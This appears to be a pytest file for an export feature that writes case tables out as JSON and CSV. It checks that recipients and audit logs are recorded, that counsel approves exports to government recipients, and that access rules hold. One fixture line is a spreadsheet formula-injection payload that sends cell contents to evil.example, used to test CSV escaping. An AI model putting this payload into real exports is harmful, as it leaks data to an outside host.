"""Tables as files: whom they are for is in them and in the audit, counsel has a word, and no cell is a formula."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from monitor.core.roles import Permission
from monitor.core.tables import Table, begins_formula
from monitor.store import AuditWanted
from tests.web.browsing import NOW, TEST, Browser
from tests.web.test_cases import DECIDED, CaseHouse

HOSTILE = '=HYPERLINK("https://evil.example/?x="&A1,"see")'
ASKED = {"template": "general", "recipient_kind": "internal", "recipient": "the board", "legal_basis": "15 CFR 744.6"}


@pytest.fixture
def office(tmp_path: Path) -> Iterator[CaseHouse]:
    house = CaseHouse(tmp_path)
    yield house
    house.close()


def exported(browser: Browser, table: str, format: str = "json", **said: str) -> httpx.Response:
    """What a form gives."""
    browser.get("/exports/tables")
    return browser.post("/exports/tables", {**ASKED, "table": table, "format": format, **said})


def unpacked(answer: httpx.Response) -> tuple[str, dict[str, Any]]:
    """The CSV of an archive, and what stands beside it."""
    with zipfile.ZipFile(io.BytesIO(answer.content)) as archive:
        about = json.loads(archive.read("about.json"))
        content = archive.read(about["file"])
    assert about["sha256"] == hashlib.sha256(content).hexdigest()
    return content.decode(), about


def test_json_says_whom_it_is_for(office: CaseHouse) -> None:
    """In the file, and in the audit with the digest of the file."""
    case = office.raise_flag("F-1")
    answer = exported(office.signed_in("reviewer"), "cases")

    found = answer.json()
    assert [case] == [row["case"] for row in found["rows"]]
    named = {name: found[name] for name in ("recipient_kind", "recipient", "legal_basis", "made_by", "row_count")}
    assert {
        "recipient_kind": "internal",
        "recipient": "the board",
        "legal_basis": "15 CFR 744.6",
        "made_by": "reviewer",
        "row_count": 1,
    } == named
    digest = hashlib.sha256(answer.content).hexdigest()
    assert f'attachment; filename="cases-{digest[:12]}.json"' == answer.headers["Content-Disposition"]
    ((row, who),) = office.store.audit.latest(AuditWanted(act="table.exported"), 5)
    body = json.loads(row.entry.body)
    assert ("reviewer (user)", "cases", digest) == (who, row.entry.subject, body["digest"])
    assert ("the board", "15 CFR 744.6") == (body["recipient"], body["legal_basis"])


def test_csv_comes_with_what_says_whom_it_is_for(office: CaseHouse) -> None:
    """In an archive: the table has nothing but its head and its rows, none of which is a formula."""
    office.raise_flag("F-1", tenant=HOSTILE, reason="+1: it is so")
    for table in ("cases", "flags"):
        text, about = unpacked(exported(office.signed_in("reviewer"), table, "csv"))
        (row,) = csv.DictReader(io.StringIO(text, newline=""), strict=True)

        assert ("the board", 1) == (about["recipient"], about["row_count"])
        assert any(HOSTILE in value for value in row.values())
        assert not any(begins_formula(value) for value in row.values())
    assert f"'{HOSTILE}" == row["tenant"]


@pytest.mark.parametrize("table", Table)
def test_every_table_can_be_had(office: CaseHouse, table: Table) -> None:
    """In both forms, with as many rows; by whoever may see what is in it."""
    office.raise_flag("F-1")
    browser = office.signed_in("auditor")

    found = exported(browser, table).json()
    text, about = unpacked(exported(browser, table, "csv"))

    assert found["row_count"] == len(found["rows"])
    assert about["row_count"] == len(list(csv.reader(io.StringIO(text, newline="")))) - 1
    assert table == about["table"] == found["table"]


def test_what_is_missing_is_told_beside_what_was_typed(office: CaseHouse) -> None:
    """And nothing is written."""
    browser = office.signed_in("reviewer")

    for said, sentence in (
        ({"recipient": ""}, "names its recipient"),
        ({"legal_basis": " "}, "states its legal basis"),
        ({"recipient_kind": "friend"}, "hands"),
        ({"format": "xls"}, "Choose one of the tables"),
        ({"table": "users"}, "Choose one of the tables"),
    ):
        answer = exported(browser, **{"table": "cases", **said})
        assert (400, True) == (answer.status_code, sentence in answer.text)
        assert "15 CFR 744.6" in answer.text or "legal_basis" in said
    assert [] == office.store.exports.latest(5)


def test_a_table_for_a_government_waits_for_counsel(office: CaseHouse) -> None:
    """Then it is fetched, as it is then."""
    browser = office.signed_in("reviewer")
    assert 303 == exported(browser, "cases", recipient_kind="governmental").status_code
    assert "/exports/1/fetch" not in browser.get("/exports").text
    counsel = office.signed_in("counsel")
    counsel.get("/exports")
    assert 303 == counsel.post("/exports/1/release", {}).status_code
    case = office.raise_flag("F-1")

    browser.get("/exports")
    answer = browser.post("/exports/1/fetch", {})

    assert [case] == [row["case"] for row in answer.json()["rows"]]
    assert "governmental" == answer.json()["recipient_kind"]


def test_whoever_may_not_see_a_table_gets_none(office: CaseHouse) -> None:
    """The audit is for auditors, also when an auditor has proposed it; a token needs the scope for names."""
    reviewer = office.signed_in("reviewer")
    assert 'value="audit"' not in reviewer.get("/exports/tables").text
    assert 403 == exported(reviewer, "audit").status_code
    assert 200 == exported(office.signed_in("auditor"), "audit").status_code
    reviewer.get("/exports")
    assert 403 == reviewer.post("/exports/1/fetch", {}).status_code
    made = office.accounts.add_token("auditor", "a program", [Permission.EXPORT], 30, TEST)
    program = office.browser(headers={"Authorization": f"Bearer {made.secret}"})
    assert 403 == program.post("/exports/tables", {**ASKED, "table": "cases", "format": "json"}).status_code


def test_what_waits_for_a_blind_review_is_not_in_the_table(office: CaseHouse) -> None:
    """Whoever may be asked to review a decision does not find it there; whoever decides nothing does."""
    case = office.raise_flag("F-1")
    browser = office.signed_in("reviewer")
    office.act(browser, case, "claim")
    office.act(browser, case, "decide", **DECIDED)
    office.sample(case)

    shown = {
        who: exported(office.signed_in(who), "cases").json()["rows"][0].get("outcome")
        for who in ("senior-two", "auditor")
    }

    assert {"senior-two": None, "auditor": "explained"} == shown


def test_the_same_table_is_the_same_bytes(office: CaseHouse) -> None:
    """At the same instant, but for the number of the export."""
    browser = office.signed_in("reviewer")

    first, second = (exported(browser, "cases").json() for _ in range(2))

    assert {**first, "export": 2} == second
    assert "2027-01-15T08:00:00Z" == first["made_at"]
    assert NOW == office.clock.now
